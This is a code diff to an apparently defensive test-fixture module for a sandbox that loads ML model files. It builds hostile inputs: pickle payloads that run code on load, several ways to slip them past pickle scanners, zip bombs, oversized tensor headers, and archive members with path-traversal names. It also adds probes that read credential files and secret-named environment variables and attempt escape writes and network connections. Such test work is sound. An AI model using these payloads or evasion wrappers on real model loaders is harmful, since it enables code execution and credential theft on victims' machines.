@@ -195,7 +195,8 @@ def udp(family, host, port):
     s = socket.socket(family, socket.SOCK_DGRAM)
     s.settimeout(2)
     s.sendto(MARKER.encode(), (host, port)); s.close()
-dns_query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
+dns_query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+             b"\x07example\x03com\x00\x00\x01\x00\x01")
 def udp_dns():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(2); s.sendto(dns_query, ("8.8.8.8", 53)); return s.recv(512)
@@ -227,11 +228,13 @@ for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/contai
 probe("socket.abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0/containerd-shim"))
 # B4 secrets
 SECRET_WORDS = ("TOKEN", "SECRET", "PASSWORD", "KEY", "AWS", "PROXY", "DOCKER", "AIRLOCK", "CRED")
-probe("secrets.env", lambda: ",".join(k for k in os.environ if any(w in k.upper() for w in SECRET_WORDS)) or None)
+def secret_keys(keys):
+    return ",".join(k for k in keys if any(w in k.upper() for w in SECRET_WORDS)) or None
+probe("secrets.env", lambda: secret_keys(os.environ))
 def pid1_env():
     with open("/proc/1/environ", "rb") as fh:
         keys = [e.split(b"=", 1)[0].decode() for e in fh.read().split(b"\0") if e]
-    return ",".join(k for k in keys if any(w in k.upper() for w in SECRET_WORDS)) or None
+    return secret_keys(keys)
 probe("secrets.pid1_env", pid1_env)
 for path in ("/root/.aws/credentials", os.path.expanduser("~/.aws/credentials"),
              os.path.expanduser("~/.cache/huggingface/token"), "/root/.docker/config.json",
@@ -243,7 +246,8 @@ def mounts():
 probe("info.mounts", mounts)
 # B5 writes outside the sandbox's scratch space, and B8 kernel-escape regressions
 import glob
-site = (glob.glob("/usr/lib/python3*/site-packages") + glob.glob("/usr/local/lib/python3*/site-packages")
+site = (glob.glob("/usr/lib/python3*/site-packages")
+        + glob.glob("/usr/local/lib/python3*/site-packages")
         + glob.glob("/usr/lib/python3/dist-packages"))
 import airlock_worker
 targets = ["/pwned", "/etc/pwned", "/airlock/in/pwned", "/airlock/pwned",
@@ -269,7 +273,8 @@ for d in ("/tmp", "/dev/shm", "/airlock/out"):
             os.unlink(target)
     probe(f"exec.binary.{d}", run_copy)
     def load_lib(d=d):
-        lib = sorted(glob.glob("/usr/lib/python3*/lib-dynload/_json*.so") + glob.glob("/usr/local/lib/python3*/lib-dynload/_json*.so"))[0]
+        lib = sorted(glob.glob("/usr/lib/python3*/lib-dynload/_json*.so")
+                     + glob.glob("/usr/local/lib/python3*/lib-dynload/_json*.so"))[0]
         target = os.path.join(d, "pwned.so")
         shutil.copy(lib, target)
         try:
@@ -296,6 +301,37 @@ probe("info.CapBnd", lambda: status_field("CapBnd"))
 probe("info.NoNewPrivs", lambda: status_field("NoNewPrivs"))
 probe("privesc.setuid0", lambda: os.setuid(0))
 probe("info.processes", lambda: ",".join(p for p in os.listdir("/proc") if p.isdigit()))
+"""
+
+#: B9: the first job plants a marker (named by NONCE) wherever it can write; the second looks
+#: for it everywhere, and in its environment.
+PERSIST_PLANT = r"""
+planted = []
+# (Not /airlock/out: the broker refuses any stray file there, and it is a fresh tmpfs per job.)
+for d in ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/airlock/in",
+          os.path.expanduser("~"), "/", "/run", "/var/lock"):
+    try:
+        with open(os.path.join(d, NONCE), "w") as fh:
+            fh.write(NONCE)
+        planted.append(d)
+    except OSError:
+        pass
+os.environ[NONCE] = NONCE
+findings["planted"] = ",".join(planted)
+"""
+
+PERSIST_SEARCH = r"""
+hits = []
+for top in ("/tmp", "/dev", "/var", "/run", "/airlock", os.path.expanduser("~"), "/"):
+    for root, dirs, files in os.walk(top):
+        if root.startswith(("/proc", "/sys")):
+            dirs[:] = []
+            continue
+        hits.extend(os.path.join(root, n) for n in files + dirs if NONCE in n)
+        if top == "/":
+            dirs[:] = []  # the top level only; the subtrees above cover the writable ones
+findings["hits"] = ",".join(sorted(set(hits)))
+findings["env"] = os.environ.get(NONCE, "")
 """
 
 
@@ -469,7 +505,8 @@ def hostile_output_source(ops: list[tuple[object, ...]], exit_code: int = 0) -> 
         if kind == "write":
             name, data = args
             assert isinstance(data, bytes)
-            lines.append(f"open({name!r}, 'wb').write(base64.b64decode({base64.b64encode(data)!r}))")
+            encoded = base64.b64encode(data)
+            lines.append(f"open({name!r}, 'wb').write(base64.b64decode({encoded!r}))")
         elif kind == "symlink":
             lines.append(f"os.symlink({args[1]!r}, {args[0]!r})")
         elif kind == "hardlink":
@@ -507,7 +544,8 @@ def one_tensor() -> bytes:
 #: Generated in the sandbox: a header of 200k small tensors (~10 MiB of JSON, under the
 #: header cap but over the tensor-count cap), and a 20 MiB header (over the header cap).
 HEADER_BOMB_TENSORS = """
-entries = {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(200_000)}
+entries = {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]}
+           for i in range(200_000)}
 raw = json.dumps(entries).encode(); raw += b" " * (-len(raw) % 8)
 open("model.safetensors", "wb").write(struct.pack("<Q", len(raw)) + raw + bytes(200_000))
 """
@@ -567,3 +605,188 @@ if os.fork() == 0:
     os._exit(0)
 time.sleep(0.3)  # the rewriter is running
 """
+
+
+# -- A: code execution at load, in every carrier and wrapper ------------------------------------
+
+#: The A-class payload body: try to write host files and reach the host's listeners, run a
+#: shell command; report how each attempt ended. Parameters: CANARY, HOSTS, TCP_PORT, UDP_PORT.
+ESCAPE_ATTEMPTS = r"""
+for path in (CANARY, "/airlock/in/pwned", "/pwned"):
+    def write(path=path):
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as fh:
+            fh.write(MARKER)
+    # The host's canary path lies under /tmp, which inside is the sandbox's own tmpfs: the
+    # write may well succeed there. Whether it reached the host is the harness's to check.
+    probe(f"{'info' if path == CANARY else 'escape'}.write.{path}", write)
+for host in HOSTS:
+    def tcp(host=host):
+        s = socket.create_connection((host, TCP_PORT), timeout=1)
+        s.sendall(MARKER.encode())
+        s.close()
+    probe(f"escape.tcp.{host}", tcp)
+    def udp(host=host):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(MARKER.encode(), (host, UDP_PORT))
+    if host != "127.0.0.1":  # the sandbox's own loopback: the host listener is the oracle
+        probe(f"escape.udp.{host}", udp)
+probe("ran.shell", lambda: os.system("id > /tmp/pwned-id && test -s /tmp/pwned-id"))
+"""
+
+
+class _Resolve:
+    """Pickles to ``pkgutil.resolve_name(name)``: a global no denylist names (A11)."""
+
+    def __init__(self, name: str) -> None:
+        self.name = name
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import pkgutil
+
+        return (pkgutil.resolve_name, (self.name,))
+
+    def __call__(self, *args: object) -> None:
+        """Only so that pickle accepts it as a reduce callable; never called here."""
+        raise RuntimeError("not on the host")
+
+
+class _CallResolved:
+    """``resolve_name("builtins:exec")(source)``: exec reached without naming it as a global."""
+
+    def __init__(self, source: str) -> None:
+        self.source = source
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (_Resolve("builtins:exec"), (self.source,))
+
+
+def evasion_variant(variant: str, source: str) -> bytes:
+    """Scanner-evasion wrappers of the reduce payload (research/security.md §5 A11)."""
+    import gzip
+
+    plain = reduce_pickle(source)
+    if variant == "broken_pickle":  # runs, then the stream is garbage (nullifAI)
+        return plain[:-1] + b"\xff\xfe garbage after the payload"
+    if variant == "resolve_name_indirection":
+        return pickle.dumps(_CallResolved(source), protocol=4)
+    if variant == "gzip_wrapped":  # .pkl.gz: joblib.load inflates it
+        return gzip.compress(plain)
+    if variant == "protocol_0_text":  # no 0x80 magic: not a supported format at all
+        return pickle.dumps(_Exec(source), protocol=0)
+    if variant == "pickle_zip_polyglot":  # a pickle that is also a valid zip (fickling)
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w") as zf:
+            zf.writestr("archive/data.pkl", b"benign")
+        return plain + buf.getvalue()
+    raise ValueError(variant)
+
+
+def torch_zip_with_unsupported_global(source: str) -> bytes:
+    """A state dict pickle with one global ``weights_only`` refuses: bait for a fallback to
+    full unpickling (A13, the Stanza pattern)."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("archive/data.pkl", pickle.dumps({"w": _Exec(source)}, protocol=2))
+        zf.writestr("archive/byteorder", "little")
+        zf.writestr("archive/version", "3\n")
+    return buf.getvalue()
+
+
+# -- D: malicious data containers ---------------------------------------------------------------
+
+
+def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
+    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
+    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()
+
+
+def zip_bomb(path: Path, kind: str, inflated_bytes: int) -> Path:
+    """One deflated member of ``inflated_bytes`` zeros (~1000:1), streamed so the host never
+    holds it: ``kind="npz"`` (an .npy member) or ``"torch"`` (a storage record)."""
+    block = bytes(1 << 20)
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
+        if kind == "torch":
+            numel = inflated_bytes // 4
+            zf.writestr("archive/data.pkl", _torch_tensor_pickle(numel),
+                        compress_type=zipfile.ZIP_STORED)
+            zf.writestr("archive/byteorder", "little", compress_type=zipfile.ZIP_STORED)
+            name, head = "archive/data/0", b""
+        else:
+            name, head = "w.npy", _npy_header("<f4", (inflated_bytes // 4,))
+        with zf.open(name, "w", force_zip64=True) as member:
+            member.write(head)
+            for _ in range(inflated_bytes // len(block)):
+                member.write(block)
+        if kind == "torch":
+            zf.writestr("archive/version", "3\n", compress_type=zipfile.ZIP_STORED)
+    return path
+
+
+def _torch_tensor_pickle(numel: int, shape: tuple[int, ...] | None = None) -> bytes:
+    """``{"w": _rebuild_tensor_v2(FloatStorage key "0" of numel, 0, shape, stride)}`` by hand
+    (the host has no torch): GLOBALs, a persistent id, REDUCE - exactly what torch.save writes."""
+    shape = shape or (numel,)
+    stride = tuple(int(_prod(shape[i + 1:])) for i in range(len(shape)))
+
+    def tup(values: tuple[int, ...]) -> bytes:
+        return b"(" + b"".join(b"J" + v.to_bytes(4, "little", signed=True)
+                               if v < 2**31 else b"\x8a\x08" + v.to_bytes(8, "little")
+                               for v in values) + b"t"
+
+    def text(s: str) -> bytes:
+        return b"X" + len(s).to_bytes(4, "little") + s.encode()
+
+    storage = (b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
+               + (b"\x8a\x08" + numel.to_bytes(8, "little")) + b"tQ")
+    rebuild = (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + tup(shape)
+               + tup(stride) + b"\x89ccollections\nOrderedDict\n)Rtb")
+    rebuild = rebuild[:-1] + b"R"
+    return b"\x80\x02}" + text("w") + rebuild + b"s."
+
+
+def _prod(values: tuple[int, ...]) -> int:
+    out = 1
+    for v in values:
+        out *= v
+    return out
+
+
+def huge_declared_npy() -> bytes:
+    """An .npy header declaring 2**40 float32s (4 TiB) in front of 16 bytes."""
+    return _npy_header("<f4", (2**40,)) + bytes(16)
+
+
+def huge_declared_safetensors() -> bytes:
+    """A safetensors input whose one tensor claims 2**40 elements over 16 bytes of data."""
+    return safetensors_bytes({"w": {"dtype": "F32", "shape": [2**40],
+                                    "data_offsets": [0, 2**42]}}, bytes(16))
+
+
+def huge_declared_torch(path: Path) -> Path:
+    """A checkpoint whose storage claims 2**40 floats, backed by a 16-byte record."""
+    with zipfile.ZipFile(path, "w") as zf:
+        zf.writestr("archive/data.pkl", _torch_tensor_pickle(2**40))
+        zf.writestr("archive/byteorder", "little")
+        zf.writestr("archive/data/0", bytes(16))
+        zf.writestr("archive/version", "3\n")
+    return path
+
+
+def npz_with_names(path: Path, names: list[str], symlink: str | None = None) -> Path:
+    """An .npz whose members carry hostile names (traversal, control characters, huge,
+    Unicode look-alikes), optionally with a symlink member (external attributes)."""
+    import numpy as np
+
+    member = io.BytesIO()
+    np.save(member, np.arange(4, dtype=np.float32))
+    with zipfile.ZipFile(path, "w") as zf:
+        for name in names:
+            zf.writestr(name if name.endswith(".npy") else name + ".npy", member.getvalue())
+        if symlink is not None:
+            info = zipfile.ZipInfo("link.npy")
+            info.external_attr = (0o120777 << 16)
+            info.create_system = 3
+            zf.writestr(info, symlink)
+    return path
